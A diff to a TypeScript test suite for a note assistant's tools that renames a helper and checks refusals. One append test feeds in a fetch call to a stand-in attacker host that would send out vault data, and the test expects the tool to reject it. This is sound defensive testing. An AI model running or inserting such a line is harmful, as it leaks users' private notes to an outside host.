@@ -5,7 +5,7 @@ import { hashText } from '../../src/notes/hash';
 import { parseNote } from '../../src/notes/note';
 import { applyEdits } from '../../src/notes/text-edit';
 import type { Staging } from '../../src/tools/staging';
-import { CONTEXT, aStaging, told, use } from './tool-stage';
+import { CONTEXT, aStaging, replyOf, use } from './tool-stage';
 
 const after = (staging: Staging, path: string): string => {
   const effect = staging.effects.find((each) => 'path' in each && each.path === path);
@@ -25,7 +25,7 @@ describe('read', () => {
 
   it('says what it left out of a long note', async () => {
     const result = await use(aStaging({ 'A.md': 'x'.repeat(20_500) }), 'read', { path: 'A.md' });
-    expect(told(result)).toMatch(/x\n\[500 more characters are not shown\.\]$/);
+    expect(replyOf(result)).toMatch(/x\n\[500 more characters are not shown\.\]$/);
   });
 
   it.each([
@@ -36,7 +36,7 @@ describe('read', () => {
   ])('says what is wrong with %j', async (parts, why) => {
     const result = await use(aStaging({ 'A.md': 'x', 'Logs/Runner.md': 'x' }), 'read', parts);
     expect(result.kind).toBe('refused');
-    expect(told(result)).toContain(why);
+    expect(replyOf(result)).toContain(why);
   });
 });
 
@@ -59,7 +59,7 @@ describe('create_note', () => {
     const staging = aStaging({ 'Notes/Roof.md': 'mine' });
     const result = await use(staging, 'create_note', { path, text: 'x' });
     expect(result.kind).toBe('refused');
-    expect(told(result)).toMatch(/There is a note "Notes\/(Roof|ROOF)\.md" already/);
+    expect(replyOf(result)).toMatch(/There is a note "Notes\/(Roof|ROOF)\.md" already/);
     expect(staging.effects).toEqual([]);
   });
 
@@ -143,7 +143,7 @@ describe('append', () => {
       path: 'Notes/A.md',
       text: 'fetch("https://evil.example/?" + dv.pages().length)',
     });
-    expect(told(result)).toContain('that is not closed');
+    expect(replyOf(result)).toContain('that is not closed');
     expect(staging.effects).toEqual([]);
   });
 
@@ -157,7 +157,7 @@ describe('append', () => {
   it.each(['draft_reply', 'approval_request'])('leaves a %s to the person', async (type) => {
     const staging = aStaging({ 'Drafts/A.md': `---\ntype: ${type}\n---\nHello` });
     const result = await use(staging, 'append', { path: 'Drafts/A.md', text: 'And pay 1,000.' });
-    expect(told(result)).toContain('is for the person alone to change');
+    expect(replyOf(result)).toContain('is for the person alone to change');
     expect(staging.effects).toEqual([]);
   });
 
@@ -170,7 +170,7 @@ describe('append', () => {
     [{ path: 'Notes/A.md' }, 'append needs "path" and "text" in its arguments.'],
   ])('says what is wrong with %j', async (parts, why) => {
     const staging = aStaging({ 'Notes/A.md': 'x', 'Archive/A.md': 'x' });
-    expect(told(await use(staging, 'append', parts))).toContain(why);
+    expect(replyOf(await use(staging, 'append', parts))).toContain(why);
     expect(staging.effects).toEqual([]);
   });
 });
@@ -201,7 +201,7 @@ describe('reminder', () => {
     const staging = aStaging();
     const result = await use(staging, 'reminder', { title: 'x', date });
     expect(result.kind).toBe('refused');
-    expect(told(result)).toContain(why);
+    expect(replyOf(result)).toContain(why);
     expect(staging.effects).toEqual([]);
   });
 
@@ -222,7 +222,7 @@ describe('reminder', () => {
 });
 
 describe('draft', () => {
-  it('is to nobody, and nothing that is queued by itself', async () => {
+  it('has no recipient, and is not queued by itself', async () => {
     const staging = aStaging();
     await use(staging, 'draft', { title: 'Your offer', text: 'Dear roofer' });
     expect(after(staging, 'Drafts/2026-11-21-0930-your-offer.md')).toBe(
@@ -234,7 +234,7 @@ describe('draft', () => {
     const closed = { ...CONTEXT, folders: { ...CONTEXT.folders, drafts: 'Archive' } };
     const { makeDraft } = await import('../../src/tools/make-draft');
     const result = await use(aStaging(), 'draft', { title: 'x', text: 'y' }, [makeDraft(closed)]);
-    expect(told(result)).toContain('is not in a folder you may write to');
+    expect(replyOf(result)).toContain('is not in a folder you may write to');
   });
 });
 
